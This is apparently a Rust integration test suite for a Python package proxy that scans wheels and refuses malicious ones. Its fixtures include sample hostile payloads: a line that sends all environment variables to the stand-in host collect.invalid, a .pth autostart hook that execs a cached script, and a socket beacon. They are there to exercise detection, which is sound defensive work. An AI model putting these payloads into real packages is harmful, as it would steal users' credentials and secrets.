//! What is inside a file: looked into before its last block leaves, once for all, and said in the answer;
//! pages and downloads agree about it, and whoever publishes is told as well.

use std::time::Duration;

use portcullis_core::digest::Sha256;
use portcullis_core::gate::HELD_BACK;
use portcullis_fixtures::{FixtureIndex, ListedFile, incompressible, sdist, wheel};
use portcullis_server::flow::contents::KIND;
use portcullis_server::jobs::schedule;
use portcullis_store::{events, inspections};

use crate::test_app::{LOOKS_INTO_NOTHING, Setup, TestApp, eventually, old};
use crate::upload_form::Form;

const FILENAME: &str = "foo-1.0-py3-none-any.whl";

/// Inert: the host is one that no name server knows.
const STEALS: &str = "import os, urllib.request\n\
    urllib.request.urlopen('https://collect.invalid/', data=repr(dict(os.environ)).encode())\n";

/// Adds and subtracts.
const HARMLESS: &str = "def add(a, b):\n    return a + b\n";

fn file(code: &str) -> ListedFile {
    old(wheel("foo", "1.0").file("foo/__init__.py", code))
}

fn large(code: &str) -> ListedFile {
    let wheel = wheel("foo", "1.0").file("foo/__init__.py", code);
    old(wheel.file("foo/data.bin", incompressible(400_000)))
}

async fn place(file: &ListedFile) -> (FixtureIndex, TestApp) {
    under("", file).await
}

async fn under(policy: &str, file: &ListedFile) -> (FixtureIndex, TestApp) {
    let upstream = FixtureIndex::start().await;
    upstream.add(file.clone());
    let app = Setup::over(&upstream).policy(policy).start().await;
    (upstream, app)
}

#[tokio::test]
async fn a_clean_file_passes_and_is_looked_into_once() {
    let file = large(HARMLESS);
    let (_upstream, app) = place(&file).await;
    for _ in 0..3 {
        let answer = app.file("foo", FILENAME).await;
        assert!(answer.status == 200 && answer.body == *file.bytes());
    }
    let sha256 = Sha256::of(file.bytes());
    let kept = inspections::find(&app.app.db, &sha256).await.unwrap();
    assert_eq!(kept.map(|kept| kept.sha256), Some(sha256));
    assert_eq!(app.downloads("foo").await.len(), 3);
    let told = app
        .get(&format!("/api/v1/inspections/{sha256}"))
        .await
        .json();
    assert_eq!(told["verdict"], "allow");
    assert_eq!(told["files"][0]["filename"], FILENAME);
    let nobody = Sha256::of(b"else");
    let answer = app.get(&format!("/api/v1/inspections/{nobody}")).await;
    assert_eq!(answer.status, 404);
}

#[tokio::test]
async fn a_small_file_that_steals_is_refused_with_the_chain() {
    let (_upstream, app) = place(&file(STEALS)).await;
    let answer = app.file("foo", FILENAME).await;
    assert_eq!(answer.status, 403, "{}", answer.shown());
    let text = answer.shown();
    for part in [
        "malicious-code",
        "NET-001",
        "collect.invalid",
        "foo/__init__.py",
    ] {
        assert!(text.contains(part), "{part} is not in {text}");
    }
    assert!(app.downloads("foo").await.is_empty());
}

#[tokio::test]
async fn a_large_file_that_steals_never_ends_and_the_retry_is_explained() {
    let file = large(STEALS);
    let (_upstream, app) = place(&file).await;
    let first = app.file("foo", FILENAME).await;
    let most = file.bytes().len() - usize::try_from(HELD_BACK).unwrap();
    assert!(!first.is_complete && first.body.len() <= most);
    let again = app.file("foo", FILENAME).await;
    assert_eq!(again.status, 403);
    assert!(again.shown().contains("malicious-code"));
    let resumed = app.file("foo", FILENAME);
    let resumed = resumed
        .header("Range", &format!("bytes={}-", first.body.len()))
        .await;
    assert_eq!(resumed.status, 403);
    assert!(app.downloads("foo").await.is_empty());
}

#[tokio::test]
async fn page_and_download_agree_once_the_file_is_known() {
    let upstream = FixtureIndex::start().await;
    upstream.add(file(STEALS));
    upstream.add(old(wheel("foo", "0.9").file("foo/__init__.py", HARMLESS)));
    let app = TestApp::over(&upstream).await;
    let before = app.page("foo").await.text();
    assert!(before.contains(FILENAME));
    assert_eq!(app.file("foo", FILENAME).await.status, 403);
    let after = app.page("foo").await.json();
    let listed = after["files"].as_array().unwrap();
    let passing: Vec<&str> = listed
        .iter()
        .filter(|file| file["yanked"] == false)
        .filter_map(|file| file["filename"].as_str())
        .collect();
    assert_eq!(passing, ["foo-0.9-py3-none-any.whl"]);
    let why = app.get("/api/v1/why?requirement=foo==1.0").await.json();
    let inspection = &why["files"][0]["inspection"];
    assert_eq!(inspection["verdict"], "deny");
    assert!(inspection["capabilities"]["network"][0]["context"] == "import");
    assert!(inspection["findings"][0]["chain"].as_array().unwrap().len() > 1);
}

#[tokio::test]
async fn what_the_policy_only_observes_or_does_not_want_to_know_passes() {
    for (mode, is_known) in [("observe", true), ("off", false)] {
        let policy = LOOKS_INTO_NOTHING.replace("'off'", &format!("'{mode}'"));
        let file = file(STEALS);
        let (_upstream, app) = under(&policy, &file).await;
        assert_eq!(app.file("foo", FILENAME).await.status, 200, "{policy}");
        let kept = inspections::find(&app.app.db, &Sha256::of(file.bytes())).await;
        assert_eq!(kept.unwrap().is_some(), is_known, "{policy}");
    }
}

#[tokio::test]
async fn a_file_that_was_received_before_anybody_looked_is_looked_into_when_somebody_wants_to_know()
{
    let (_upstream, app) = under(LOOKS_INTO_NOTHING, &file(STEALS)).await;
    app.start_jobs();
    assert_eq!(app.file("foo", FILENAME).await.status, 200);
    app.write_policy("[rules.malicious-code]\neffect = 'deny'\n");
    let refused = async || {
        let answer = app.file("foo", FILENAME).await;
        (answer.status == 403).then_some(answer)
    };
    assert!(eventually(refused).await.shown().contains("NET-001"));
    let told = events::latest(&app.app.db, &events::Filter::latest(10)).await;
    let told = told.unwrap();
    let event = told.iter().find(|event| event.kind == KIND).unwrap();
    assert!(
        event.sentence.contains("It was received"),
        "{}",
        event.sentence
    );
}

#[tokio::test]
async fn an_archive_that_contradicts_itself_is_refused() {
    let bytes = [b"PK\x05\x06 prefix".to_vec(), wheel("foo", "1.0").build()].concat();
    let (_upstream, app) = place(&old(ListedFile::raw("foo", "1.0", FILENAME, bytes))).await;
    let answer = app.file("foo", FILENAME).await;
    assert_eq!(answer.status, 403);
    assert!(
        answer.shown().contains("broken-archive"),
        "{}",
        answer.shown()
    );
}

#[tokio::test]
async fn a_document_beside_a_release_passes_and_what_no_installer_takes_waits() {
    for (filename, status) in [("foo-1.0-variants.json", 200), ("foo-1.0-py3.6.egg", 403)] {
        let bytes = wheel("foo", "1.0").build();
        let file = old(ListedFile::raw("foo", "1.0", filename, bytes));
        let (_upstream, app) = place(&file).await;
        let answer = app.file("foo", filename).await;
        assert_eq!(answer.status, status, "{}", answer.shown());
    }
}

#[tokio::test]
async fn whoever_publishes_what_steals_is_told_and_nothing_is_kept() {
    let upstream = FixtureIndex::start().await;
    let app = TestApp::over(&upstream).await;
    let token = app.token("ci", "upload").await;
    let steals = wheel("acme-tool", "1.0").file("acme_tool/__init__.py", STEALS);
    let answer = Form::of_wheel(&steals).to(&app, &token).await;
    assert_eq!(answer.status, 403, "{}", answer.shown());
    assert!(answer.shown().contains("NET-001"));
    assert!(app.blobs().await.is_empty());
    let harmless = wheel("acme-tool", "1.0").file("acme_tool/__init__.py", HARMLESS);
    assert_eq!(Form::of_wheel(&harmless).to(&app, &token).await.status, 200);
}

#[tokio::test]
async fn whoever_asks_for_metadata_finds_the_wheel_inspected() {
    let upstream = FixtureIndex::start().await;
    upstream.offer_metadata();
    upstream.add(file(STEALS));
    let app = TestApp::over(&upstream).await;
    let metadata = app.file("foo", &format!("{FILENAME}.metadata")).await;
    assert_eq!(metadata.status, 200);
    let is_hidden = async || {
        let page = app.page("foo").await.text();
        page.contains("malicious-code").then_some(())
    };
    eventually(is_hidden).await;
    assert_eq!(app.file("foo", FILENAME).await.status, 403);
}

#[tokio::test]
async fn a_change_in_behaviour_is_held_and_an_unchanged_one_is_not() {
    let starts = "import os; exec(open(os.path.expanduser('~/.cache/x.py')).read())\n";
    let upstream = FixtureIndex::start().await;
    upstream.add(old(wheel("foo", "1.0").file("foo/__init__.py", HARMLESS)));
    upstream.add(old(wheel("foo", "1.1").file("foo/__init__.py", HARMLESS)));
    let changed = wheel("foo", "1.2")
        .file("foo/__init__.py", HARMLESS)
        .file("foo_init.pth", "import foo._start\n")
        .file("foo/_start.py", starts);
    upstream.add(old(changed));
    let app = Setup::over(&upstream)
        .policy(
            "[rules.malicious-code]\nmode = 'observe'\n[rules.broken-archive]\nmode = 'observe'\n",
        )
        .start()
        .await;
    for version in ["1.0", "1.1"] {
        let answer = app
            .file("foo", &format!("foo-{version}-py3-none-any.whl"))
            .await;
        assert_eq!(answer.status, 200, "{}", answer.shown());
    }
    let answer = app.file("foo", "foo-1.2-py3-none-any.whl").await;
    assert_eq!(answer.status, 403);
    assert!(
        answer.shown().contains("changed-behaviour"),
        "{}",
        answer.shown()
    );
}

#[tokio::test]
async fn a_wheel_that_is_not_what_its_sdist_says_is_held() {
    let upstream = FixtureIndex::start().await;
    let beacon = "import socket\nsocket.create_connection(('collect.invalid', 443))\n";
    let sdist = sdist("foo", "1.0").file("foo/__init__.py", HARMLESS);
    upstream.add(old(sdist));
    upstream.add(file(&format!("{HARMLESS}{beacon}")));
    let app = Setup::over(&upstream)
        .policy("[rules.malicious-code]\nmode = 'observe'\n")
        .start()
        .await;
    let answer = app.file("foo", FILENAME).await;
    assert_eq!(answer.status, 403, "{}", answer.shown());
    assert!(
        answer.shown().contains("wheel-differs"),
        "{}",
        answer.shown()
    );
}

#[tokio::test]
async fn whoever_may_not_wait_is_told_to_come_again() {
    let upstream = FixtureIndex::start().await;
    upstream.add(file(HARMLESS));
    let app = Setup::over(&upstream)
        .tables("[inspection]\nisolation = 'thread'\npatience = '0s'\n")
        .start()
        .await;
    let first = app.file("foo", FILENAME).await;
    assert_eq!(first.status, 403);
    assert!(
        first.shown().contains("being inspected"),
        "{}",
        first.shown()
    );
    let passes = async || {
        let answer = app.file("foo", FILENAME).await;
        (answer.status == 200).then_some(())
    };
    eventually(passes).await;
}

#[tokio::test]
async fn a_job_looks_again_when_there_is_something_to_see() {
    let (_upstream, app) = place(&file(HARMLESS)).await;
    assert_eq!(app.file("foo", FILENAME).await.status, 200);
    app.advance(Duration::from_secs(1));
    let said = schedule::run_now(&app.app, "inspect-again").await.unwrap();
    assert_eq!(said, "everything was seen by the present revision");
}
